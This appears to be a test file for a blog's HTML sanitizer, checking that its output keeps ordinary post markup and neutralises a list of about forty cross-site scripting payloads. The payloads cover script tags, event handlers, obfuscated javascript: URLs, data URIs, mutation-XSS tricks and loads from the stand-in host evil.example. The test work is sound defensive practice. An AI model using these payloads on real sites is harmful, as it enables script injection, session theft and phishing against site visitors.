import { describe, expect, test } from "bun:test";
import { sanitizePostHtml } from "./sanitize-html.ts";

// The test's own statement of what may come out, written apart from the sanitizer's options on purpose:
// a tag or attribute added there without being added here fails expectHarmless on the hostile inputs below.
const ALLOWED_TAGS = new Set(
  "h2 h3 h4 p br hr a img figure figcaption ul ol li blockquote pre code strong em del sub sup abbr table caption thead tbody tfoot tr th td".split(" "),
);
const ALLOWED_ATTRIBUTES = new Set("href title target rel src alt width height loading decoding start reversed colspan rowspan scope class".split(" "));

/** Every tag of sanitized output: its name and attributes (the output is well-formed, quoted, with < and > escaped in text). */
function tagsOf(html: string) {
  return [...html.matchAll(/<([a-zA-Z][\w-]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)].map((m) => ({
    name: m[1]!.toLowerCase(),
    attributes: [...m[2]!.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)].map((a) => ({ name: a[1]!.toLowerCase(), value: a[2] ?? "" })),
  }));
}

function decodeEntities(value: string): string {
  return value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec) => String.fromCodePoint(Number(dec)))
    .replaceAll("&colon;", ":")
    .replaceAll("&amp;", "&");
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: browsers strip these from a URL before reading its scheme
const STRIPPED_FROM_URLS = /[\u0000-\u0020\u007f]/g;

/** What a browser would see as the URL's scheme, after entity decoding and the control characters it strips. */
function schemeOf(url: string): string | null {
  const cleaned = decodeEntities(url).replace(STRIPPED_FROM_URLS, "").toLowerCase();
  const match = /^([a-z][a-z0-9+.-]*):/.exec(cleaned);
  return match ? match[1]! : null;
}

function expectHarmless(output: string) {
  expect(output).not.toMatch(/<\s*\/?\s*(script|iframe|object|embed|svg|math|style|form|input|button|base|meta|link|textarea|template|noscript|body|details)\b/i);
  for (const tag of tagsOf(output)) {
    expect(ALLOWED_TAGS.has(tag.name)).toBe(true);
    for (const attribute of tag.attributes) {
      expect(ALLOWED_ATTRIBUTES.has(attribute.name)).toBe(true);
      if (attribute.name === "href") expect([null, "http", "https", "mailto"]).toContain(schemeOf(attribute.value));
      if (attribute.name === "src") expect([null, "http", "https"]).toContain(schemeOf(attribute.value));
      if (attribute.name === "href" || attribute.name === "src") expect(decodeEntities(attribute.value).trim()).not.toMatch(/^\/\//);
    }
  }
  // A second pass changes nothing: no payload re-forms after the first.
  expect(sanitizePostHtml(output)).toBe(output);
}

// Real-world payloads (OWASP XSS filter evasion cheat sheet, mutation-XSS classics).
const payloads = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</script>",
  "<<script>script>alert(1)<</script>/script>",
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror=alert(1)//",
  "<IMG SRC=javascript:alert('XSS')>",
  '<img src="jav\tascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img """><script>alert(1)</script>">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  '<p onclick="alert(1)" onmouseover="alert(2)">hover</p>',
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="javascript&colon;alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="//evil.example/phish">protocol-relative</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<base href="javascript:/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<p style="position:fixed;inset:0">overlay</p>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  '<a href="https://example.com" onclick="alert(1)" target="_self">ok</a>',
  '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x" style="x">',
  '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
];

describe("sanitizePostHtml against XSS payloads", () => {
  test.each(payloads)("%s", (payload) => {
    const output = sanitizePostHtml(payload);
    expectHarmless(output);
    expect(output).not.toMatch(/\son[a-z]+=/i);
  });

  test("script and style contents vanish with their tags; ordinary text stays", () => {
    expect(sanitizePostHtml("<p>Hi <script>alert(1)</script>there<style>p{}</style></p>")).toBe("<p>Hi there</p>");
    expect(sanitizePostHtml("<iframe>inside</iframe><p>after</p>")).toBe("<p>after</p>");
  });

  test("text that looks like markup is escaped, not interpreted", () => {
    expect(sanitizePostHtml("<p>1 &lt; 2 &amp;&amp; a &gt; b</p>")).toBe("<p>1 &lt; 2 &amp;&amp; a &gt; b</p>");
  });
});

describe("sanitizePostHtml keeps blog content", () => {
  test("headings, paragraphs, emphasis, lists, quotes, code, rules and breaks", () => {
    const html =
      '<h2>Two</h2><h3>Three</h3><h4>Four</h4><p>A <strong>b</strong> <em>c</em> <del>d</del> x<sup>2</sup> H<sub>2</sub>O <abbr title="Search engine optimisation">SEO</abbr><br>e</p>' +
      '<ul><li>one</li></ul><ol start="3"><li>three</li></ol><blockquote><p>quote</p></blockquote>' +
      '<pre><code class="language-ts">const a = 1;</code></pre><hr>';
    expect(sanitizePostHtml(html)).toBe(
      '<h2>Two</h2><h3>Three</h3><h4>Four</h4><p>A <strong>b</strong> <em>c</em> <del>d</del> x<sup>2</sup> H<sub>2</sub>O <abbr title="Search engine optimisation">SEO</abbr><br />e</p>' +
        '<ul><li>one</li></ul><ol start="3"><li>three</li></ol><blockquote><p>quote</p></blockquote>' +
        '<pre><code class="language-ts">const a = 1;</code></pre><hr />',
    );
  });

  test("h1, h5, h6, b, i become the tags the page styles; other classes go", () => {
    expect(sanitizePostHtml('<h1>T</h1><h5>5</h5><h6>6</h6><b>b</b><i>i</i><code class="evil language-js">x</code>')).toBe(
      '<h2>T</h2><h4>5</h4><h4>6</h4><strong>b</strong><em>i</em><code class="language-js">x</code>',
    );
  });

  test("external links open in a new tab with rel noopener noreferrer nofollow; own links stay as they are", () => {
    expect(sanitizePostHtml('<a href="https://example.com/x?a=1&amp;b=2" title="Ex" target="_top" rel="opener">ext</a>')).toBe(
      '<a href="https://example.com/x?a=1&amp;b=2" title="Ex" target="_blank" rel="noopener noreferrer nofollow">ext</a>',
    );
    expect(sanitizePostHtml('<a href="/blog" target="_blank">blog</a><a href="#top">top</a><a href="mailto:hi@example.com">mail</a>')).toBe(
      '<a href="/blog">blog</a><a href="#top">top</a><a href="mailto:hi@example.com">mail</a>',
    );
  });

  test("images: web or relative sources, numeric sizes, lazy by default; refused sources drop the image", () => {
    expect(sanitizePostHtml('<img src="/static/a.svg" alt="Chart" width="800" height="450px" loading="eager" class="x">')).toBe(
      '<img src="/static/a.svg" alt="Chart" width="800" loading="eager" decoding="async" />',
    );
    expect(sanitizePostHtml('<img src="https://cdn.example/a.png">')).toBe('<img src="https://cdn.example/a.png" alt="" loading="lazy" decoding="async" />');
    expect(sanitizePostHtml('<p><img src="data:image/png;base64,AAAA"><img src="javascript:alert(1)">text</p>')).toBe("<p>text</p>");
  });

  test("figures and tables", () => {
    const html =
      '<figure><img src="/a.png" alt="A"><figcaption>Caption</figcaption></figure>' +
      '<table><caption>C</caption><thead><tr><th scope="col">H</th></tr></thead><tbody><tr><td colspan="2">D</td></tr></tbody></table>';
    expect(sanitizePostHtml(html)).toBe(
      '<figure><img src="/a.png" alt="A" loading="lazy" decoding="async" /><figcaption>Caption</figcaption></figure>' +
        '<table><caption>C</caption><thead><tr><th scope="col">H</th></tr></thead><tbody><tr><td colspan="2">D</td></tr></tbody></table>',
    );
  });
});
